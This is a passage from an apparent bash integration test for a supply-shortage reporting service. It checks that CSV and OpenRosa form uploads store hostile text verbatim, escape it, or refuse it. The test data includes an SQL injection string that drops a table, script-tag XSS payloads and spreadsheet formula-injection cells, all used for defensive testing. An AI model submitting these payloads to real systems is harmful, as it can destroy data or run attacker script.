expect_eq "$(echo "$URL_ID2" | python3 "$WORK/export.py" "$WORK/urls.csv" source_url)" "True 1
$(hex "$U2")" "URL with markup exported verbatim"

# --- CSV uploads --------------------------------------------------------------------------
# Hostile but valid text through CSV: stored verbatim; a leading ' before a formula
# character is the export's guard and is removed, exactly once. Blanks around text are
# kept in a quoted cell; the CSV parser (libcsv) trims them from an unquoted one.
CSV_ID1=$(uuid); CSV_ID2=$(uuid); CSV_ID3=$(uuid)
printf 'report_id,date,corridor,item,severity,location,note\r\n%s,2024-05-03,rafah,"<script>alert(""x"")</script>",low,"a\r\nb, c","\x27); DROP TABLE supplywatch.reports;--"\r\n%s,2024-05-03,rafah,\x27=1+1,low,  unquoted  ,"  quoted  "\r\n%s,2024-05-03,rafah,\x27\x27=x,low,\x27plain,$$ SELECT 1 $$\r\n' \
	"$CSV_ID1" "$CSV_ID2" "$CSV_ID3" >"$WORK/hostile.csv"
post_csv "$WORK/hostile.csv" "?kind=shortage"
expect_status 201 "hostile text by CSV"
expect_eq "$(sql "SELECT $(sql_hex item) || ',' || $(sql_hex location) || ',' || $(sql_hex note) FROM analytics.shortage_reports WHERE report_id = '$CSV_ID1'")" \
	"$(hex '<script>alert("x")</script>'),$(hex $'a\r\nb, c'),$(hex "'); DROP TABLE supplywatch.reports;--")" "CSV row 2 verbatim"
expect_eq "$(sql "SELECT $(sql_hex item) || ',' || $(sql_hex location) || ',' || $(sql_hex note) FROM analytics.shortage_reports WHERE report_id = '$CSV_ID2'")" \
	"$(hex '=1+1'),$(hex 'unquoted'),$(hex '  quoted  ')" "CSV row 3: one ' removed; blanks kept only in quotes"
expect_eq "$(sql "SELECT $(sql_hex item) || ',' || $(sql_hex location) || ',' || $(sql_hex note) FROM analytics.shortage_reports WHERE report_id = '$CSV_ID3'")" \
	"$(hex "'=x"),$(hex "'plain"),$(hex '$$ SELECT 1 $$')" "CSV row 4: only one ' removed, and only before a formula character"
N=$(count)
# Controls and noncharacters: the row and the column's header named; nothing stored.
printf 'Date,Corridor,What,How bad,Where,Remarks\n#date,#loc+corridor,#item+name,#severity,#loc+name,#description\n2024-05-03,rafah,flour,low,,fine\n2024-05-03,rafah,a\x01b,low,,\n2024-05-03,rafah,rice,low,a\x7fb,\n2024-05-03,rafah,oil,low,,a\xc2\x85b\n2024-05-03,rafah,salt,low,,a\xef\xbf\xbeb\n2024-05-03,rafah,a\xef\xbf\xbfb,low,,\n2024-05-03,rafah,"\t",low,,"  "\n' >"$WORK/controls.csv"
post_csv "$WORK/controls.csv" "?kind=shortage"
expect_status 422 "controls in a CSV file"
expect_eq "$(details)" '["4:What:must not contain control characters","5:Where:must not contain control characters","6:Remarks:must not contain control characters","7:Remarks:must not contain the noncharacters U+FFFE or U+FFFF","8:What:must not contain the noncharacters U+FFFE or U+FFFF","9:What:is required"]' "each bad cell by row and header"
expect_eq "$(count)" "$N" "nothing stored from the file"
# Bytes that are not UTF-8 (and NUL): the file is refused at the first, by row.
for bad in 'c3 28' 'c0 af' 'ed a0 80' 'ff' '00' 'e2 82'; do
	# Row 3 is one record over two lines: rows count as a spreadsheet shows them.
	printf 'date,corridor,item,severity,note\n2024-05-03,rafah,flour,low,ok\n2024-05-03,rafah,rice,low,"two\nlines"\n2024-05-03,rafah,oil,low,a' >"$WORK/bytes.csv"
	printf "$(printf '\\x%s' $bad)" >>"$WORK/bytes.csv"
	printf 'b\n2024-05-03,rafah,salt,low,x\n' >>"$WORK/bytes.csv"
	post_csv "$WORK/bytes.csv" "?kind=shortage"
	expect_eq "$STATUS $(details)" '422 ["4::is not UTF-8 text: save the file as \"CSV UTF-8\""]' "CSV bytes $bad named by row"
done
printf 'date,corridor,item,severity,no\xc3\x28te\n2024-05-03,rafah,flour,low,ok\n' >"$WORK/header.csv"
post_csv "$WORK/header.csv" "?kind=shortage"
expect_eq "$STATUS $(details)" '422 ["1::is not UTF-8 text: save the file as \"CSV UTF-8\""]' "bad bytes in the header row"
expect_eq "$(count)" "$N" "nothing stored from files with bad bytes"
# Two columns for one field, one of them a long non-ASCII label: the error names it, cut
# between characters (it used to be cut inside one, and the details came back empty).
LONG="x$(printf '\xc3\xa9%.0s' $(seq 1 100))"
printf '%s,Place,Corridor\n#loc,#loc+name,#loc+corridor\nx,y,rafah\n' "$LONG" >"$WORK/dup.csv"
post_csv "$WORK/dup.csv" "?kind=shortage"
expect_eq "$STATUS $(details)" "422 [\"2:Place:names the same field (location) as column \\\"x$(printf '\xc3\xa9%.0s' $(seq 1 49))\\\"; keep one of them\"]" "a duplicate column with a long label"

# --- OpenRosa ----------------------------------------------------------------------------------
# instance FILE FORM_ID BODY: a form instance as ODK Collect writes it.
instance() {
	cat >"$1" <<XML
<?xml version='1.0' ?><data xmlns:jr="http://openrosa.org/javarosa" id="$2" version="2026112801">$3<meta><instanceID>uuid:$(uuid)</instanceID></meta></data>
XML
}
submit() {
	req POST /submission -H "X-OpenRosa-Version: 1.0" -u "ngo-a:$TOKEN" \
		-F "xml_submission_file=@$1;type=text/xml;filename=$(basename "$1")"
}
message() {
	xmllint --xpath 'string(/*[local-name()="OpenRosaResponse"]/*[local-name()="message"])' "$BODY" 2>&1
}
# Markup in CDATA, entities, SQL: stored as the text they stand for (white space around trimmed).
instance "$WORK/or.xml" supplywatch_shortage "<corridor>rafah</corridor><date>2024-05-04</date><item><![CDATA[<script>alert(1)</script> ]]&gt;]]></item><severity>low</severity><location> &lt;/title&gt; &amp;amp; a&#13;b </location><note>
  '); DROP TABLE supplywatch.reports;-- \$\$ %s%n  </note>"
submit "$WORK/or.xml"
expect_eq "$STATUS $(message)" "201 Thank you: report stored." "hostile text by OpenRosa"
OR_ID=$(sed -n 's/.*<instanceID>uuid:\([^<]*\)<.*/\1/p' "$WORK/or.xml")
load_stored
expect_eq "${STORED[$OR_ID]-missing}" "$(hex '<script>alert(1)</script> ]]&gt;'),$(hex $'</title> &amp; a\rb'),$(hex "'); DROP TABLE supplywatch.reports;-- \$\$ %s%n"),$(hex "'); DROP TABLE supplywatch.reports;-- \$\$ %s%n"),$(hex '<script>alert(1)</script> ]]&gt;'),$(hex $'</title> &amp; a\rb'),$(hex "'); DROP TABLE supplywatch.reports;-- \$\$ %s%n")" "OpenRosa text stored verbatim"
N=$(count)
or_refused() {	# or_refused WHAT ELEMENT MESSAGE
	instance "$WORK/bad.xml" supplywatch_shortage "<corridor>rafah</corridor><date>2024-05-04</date><severity>low</severity>$2"
	submit "$WORK/bad.xml"
	expect_eq "$STATUS $(message)" "400 $3" "OpenRosa: $1"
	xmllint --noout "$BODY" 2>/dev/null
	expect_eq "$?" "0" "OpenRosa answer to $1 is well-formed XML"
}
or_refused "&#x7f;" '<item>a&#x7f;b</item>' "Not stored. Please correct the form and send it again: item: must not contain control characters"
or_refused "&#x85;" '<item>flour</item><note>a&#x85;b</note>' "Not stored. Please correct the form and send it again: note: must not contain control characters"
or_refused "&#1;" '<item>a&#1;b</item>' "Not stored: the form data is not well-formed XML (line 1: xmlParseCharRef: invalid xmlChar value 1)."
or_refused "&#xFFFE;" '<item>a&#xFFFE;b</item>' "Not stored: the form data is not well-formed XML (line 1: xmlParseCharRef: invalid xmlChar value 65534)."
or_refused "&#xD800;" '<item>a&#xD800;b</item>' "Not stored: the form data is not well-formed XML (line 1: xmlParseCharRef: invalid xmlChar value 55296)."
or_refused "bytes C3 28" "<item>a$(printf '\xc3\x28')b</item>" "Not stored: the form data is not well-formed XML (line 1: Input is not proper UTF-8, indicate encoding !)."
or_refused "bytes C0 AF" "<item>a$(printf '\xc0\xaf')b</item>" "Not stored: the form data is not well-formed XML (line 1: Input is not proper UTF-8, indicate encoding !)."
# An unknown form id is echoed, escaped.
instance "$WORK/id.xml" '&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;' "<corridor>rafah</corridor>"
submit "$WORK/id.xml"
expect_eq "$STATUS $(message)" '400 Not stored: this server does not know the form ""><script>alert(1)</script>"; get the blank forms again from this server.' "an unknown form id with markup"
expect_eq "$(grep -c '<script' "$BODY")" "0" "the form id is escaped in the answer"
# And still UTF-8 when the message is cut inside
# a character (the answer used to end in half a character, and no phone could read it).
instance "$WORK/long.xml" "xx$(printf '\xc3\xa9%.0s' $(seq 1 400))&quot;&gt;&lt;script&gt;" "<corridor>rafah</corridor>"
submit "$WORK/long.xml"
xmllint --noout "$BODY" 2>"$WORK/xmllint.err"
expect_eq "$STATUS:$?:$(head -c 200 "$WORK/xmllint.err")" "400:0:" "a long unknown form id: a well-formed answer"
# The whole sentence is one message of at most 511 bytes: "Not stored: ... the form \"xx" is
# 50 bytes, so 230 é and the first byte of the 231st fit, and that byte becomes U+FFFD.
expect_eq "$(message)" "Not stored: this server does not know the form \"xx$(printf '\xc3\xa9%.0s' $(seq 1 230))$(printf '\xef\xbf\xbd')" "the message, cut, ends in U+FFFD"
expect_eq "$(count)" "$N" "refused forms stored nothing"

sw_stop
